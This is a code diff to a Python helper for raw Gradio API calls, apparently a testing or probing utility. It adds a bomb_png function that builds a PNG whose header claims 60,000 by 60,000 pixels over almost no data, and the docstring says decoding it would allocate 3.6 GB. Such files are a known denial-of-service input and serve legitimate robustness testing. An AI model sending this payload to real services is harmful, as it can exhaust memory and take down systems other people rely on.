@@ -4,6 +4,8 @@ gradio_client refuses to send (NaN, Infinity)."""
 from __future__ import annotations
 
 import json
+import struct
+import zlib
 from functools import lru_cache
 from pathlib import Path
 
@@ -79,3 +81,15 @@ def raw_call(url: str, api_name: str, body: str, timeout: float = 60.0) -> tuple
                         return "error", (payload or {}).get("error") if isinstance(payload, dict) else payload
                     return "complete", payload
     return "no answer", None
+
+
+def _chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+
+
+def bomb_png(width: int = 60_000, height: int = 60_000) -> bytes:
+    """A valid PNG header (IHDR) claiming width x height 8-bit grey pixels, with almost no data behind it:
+    decoding it would allocate 3.6 GB."""
+    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
+            + _chunk(b"IEND", b""))
